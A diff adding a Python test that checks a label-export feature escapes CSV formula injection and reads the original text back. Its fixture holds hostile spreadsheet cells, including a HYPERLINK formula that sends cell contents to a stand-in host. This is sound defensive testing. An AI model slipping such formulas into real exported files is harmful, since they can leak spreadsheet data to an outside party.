@@ -297,3 +297,53 @@ def test_an_index_build_whose_collection_was_deleted_swaps_nothing_in(tmp_path):
     with pytest.raises(CollectionDeleted, match="was deleted while its index was built"):
         swap_in_index(paths, staging, {"embedding_model": "x"})
     assert not paths.root.exists() and "c" not in list_collections(home)
+
+
+def test_an_exported_csv_never_starts_a_cell_with_a_formula_and_reads_back_the_same_text(tmp_path):
+    """Issue 58 case 4: `judge label --export` wrote a question `=HYPERLINK(...)` as it is, which a
+    spreadsheet runs when the file is opened (CSV formula injection). Every cell a spreadsheet would
+    read as a formula starts with `'` (OWASP); the import gives back the exact text, also after a
+    spreadsheet saved the file again (dropping that `'` itself)."""
+    import csv
+
+    from ragassay.judge.labels import export_sample
+    from ragassay.judge.labels.files import read_label_file
+    from ragassay.judge.labels.sample import SampleItem, sample_id_of
+    from ragassay.store.schemas import JUDGE_LABELS
+
+    hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1 bees", "-2 hives", "@SUM(A1:A9)", "'quoted", "\tTab"]
+    items = [
+        SampleItem(
+            item_id=f"i{n}", sample_id=sample_id_of("b1", 0, 6), batch_id="b1", configuration="hybrid",
+            query_collection="sample", query_id=f"q{n}", metric="faithfulness", question=text, answer=text,
+            statement=text, context=text, context_digest="d", cited_sources=[1], stratum="supported",
+            stratum_size=6, judge_model="m", prompt_version="p", support_threshold=0.5, judge_verdict="supported",
+            p_supported=0.9,
+        )
+        for n, text in enumerate(hostile)
+    ]  # fmt: skip
+    exported = tmp_path / "sample.csv"
+    assert export_sample(items, exported, JUDGE_LABELS.empty()) == len(hostile)
+    rows = list(csv.DictReader(exported.open(encoding="utf-8", newline="")))
+    cells = [value for row in rows for value in row.values() if value]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert rows[0]["statement"] == "'" + hostile[0] and rows[4]["statement"] == "''quoted"
+
+    for row in rows:
+        row["label"] = "supported"
+    filled = tmp_path / "filled.csv"
+    with filled.open("w", encoding="utf-8", newline="") as file:
+        writer = csv.DictWriter(file, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    assert [label.statement for label in read_label_file(filled)] == hostile
+    # A spreadsheet that saved the file again dropped the `'` it showed as text: still the same.
+    for row in rows:
+        row["statement"] = (
+            row["statement"][1:] if row["statement"][1:].startswith(("=", "+", "-", "@", "\t")) else row["statement"]
+        )
+    with filled.open("w", encoding="utf-8", newline="") as file:
+        writer = csv.DictWriter(file, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    assert [label.statement for label in read_label_file(filled)] == hostile
